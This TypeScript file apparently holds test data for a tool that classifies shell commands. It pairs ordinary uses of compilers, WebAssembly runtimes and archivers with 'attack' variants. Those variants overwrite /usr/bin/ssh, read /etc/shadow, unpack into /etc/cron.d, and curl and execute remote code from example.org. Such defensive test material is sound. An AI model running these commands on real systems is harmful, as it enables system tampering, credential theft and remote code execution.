import type { ExampleTable } from './example.ts'

const FETCH = 'curl -so'

export const moreCompilers: ExampleTable = {
  asc: {
    use: 'asc app.ts -o app.wasm → read app.ts; write app.wasm',
    attack: 'asc app.ts -o /usr/bin/ssh → read app.ts; write /usr/bin/ssh',
  },
  'chicken-csc': {
    use: 'chicken-csc app.scm → read app.scm; write app',
    attack: 'chicken-csc -o /usr/bin/ssh app.scm → read app.scm; write /usr/bin/ssh',
  },
  cobcrun: {
    use: 'cobcrun ./app.so → read app.so',
    attack: `${FETCH} app.so https://example.org/x && cobcrun ./app.so → execute ‹https://example.org/x›`,
  },
  cythonize: {
    use: 'cythonize -i app.pyx → read app.pyx; write app.so',
    attack: 'cythonize /etc/shadow → read /etc/shadow',
  },
  gplc: {
    use: 'gplc app.pl → read app.pl; write app',
    attack: 'gplc -o /usr/bin/ssh app.pl → read app.pl; write /usr/bin/ssh',
  },
  mrbc: {
    use: 'mrbc app.rb → read app.rb; write app.mrb',
    attack: 'mrbc -o /usr/bin/ssh app.rb → read app.rb; write /usr/bin/ssh',
  },
  ocamlrun: {
    use: 'ocamlrun app.byte → read app.byte',
    attack: `${FETCH} app https://example.org/x && ocamlrun app → execute ‹https://example.org/x›`,
  },
  perlcc: {
    use: 'perlcc -o app app.pl → read app.pl; write app',
    attack: 'perlcc -o /usr/bin/ssh app.pl → read app.pl; write /usr/bin/ssh',
  },
  polyc: {
    use: 'polyc app.sml → read app.sml; write a.out',
    attack: 'polyc -o /usr/bin/ssh app.sml → read app.sml; write /usr/bin/ssh',
  },
  pp: {
    use: 'pp -o app app.pl → read app.pl; write app',
    attack: 'pp -o /usr/bin/ssh app.pl → read app.pl; write /usr/bin/ssh',
  },
  dartaotruntime: {
    use: 'dartaotruntime app.aot → read app.aot',
    attack: `${FETCH} app.aot https://example.org/x && dartaotruntime app.aot → execute ‹https://example.org/x›`,
  },
  'odin run': {
    use: 'odin run app.odin -file → read app.odin',
    attack: `${FETCH} app.odin https://example.org/x && odin run app.odin → execute ‹https://example.org/x›`,
  },
  'odin test': {
    use: 'odin test app.odin -file → read app.odin',
    attack: `${FETCH} app.odin https://example.org/x && odin test app.odin → execute ‹https://example.org/x›`,
  },
  'nim js': {
    use: 'nim js app.nim → read app.nim; write app.js',
    attack: 'nim js --out:/usr/bin/ssh app.nim → read app.nim; write /usr/bin/ssh',
  },
  idris2: {
    use: 'idris2 -o app app.idr → read app.idr; write build/exec/app',
    attack: `${FETCH} app.idr https://example.org/x && idris2 app.idr → execute ‹https://example.org/x›`,
  },
  lrunzip: {
    use: 'lrunzip a.txt.lrz → read a.txt.lrz; write a.txt',
    attack: 'lrunzip -o /usr/bin/ssh a.lrz → read a.lrz; write /usr/bin/ssh',
  },
  'lha x': {
    use: 'lha x a.lzh → read a.lzh; unpack .',
    attack: 'cd /etc/cron.d && lha x a.lzh → unpack /etc/cron.d/.',
  },
  'lha e': {
    use: 'lha e a.lzh → read a.lzh; unpack .',
    attack: 'cd /etc/cron.d && lha e a.lzh → unpack /etc/cron.d/.',
  },
  wasmtime: {
    use: 'wasmtime app.wasm → read app.wasm',
    attack: `${FETCH} app.wasm https://example.org/x && wasmtime app.wasm → execute ‹https://example.org/x›`,
  },
  'wasmtime run': {
    use: 'wasmtime run app.wasm → read app.wasm',
    attack: `${FETCH} app.wasm https://example.org/x && wasmtime run app.wasm → execute ‹https://example.org/x›`,
  },
  wasmer: {
    use: 'wasmer app.wasm → read app.wasm',
    attack: `${FETCH} app.wasm https://example.org/x && wasmer app.wasm → execute ‹https://example.org/x›`,
  },
  'wasmer run': {
    use: 'wasmer run app.wasm → read app.wasm',
    attack: `${FETCH} app.wasm https://example.org/x && wasmer run app.wasm → execute ‹https://example.org/x›`,
  },
  wasm3: {
    use: 'wasm3 app.wasm → read app.wasm',
    attack: `${FETCH} app.wasm https://example.org/x && wasm3 app.wasm → execute ‹https://example.org/x›`,
  },
  wasmedge: {
    use: 'wasmedge app.wasm → read app.wasm',
    attack: `${FETCH} app.wasm https://example.org/x && wasmedge app.wasm → execute ‹https://example.org/x›`,
  },
}
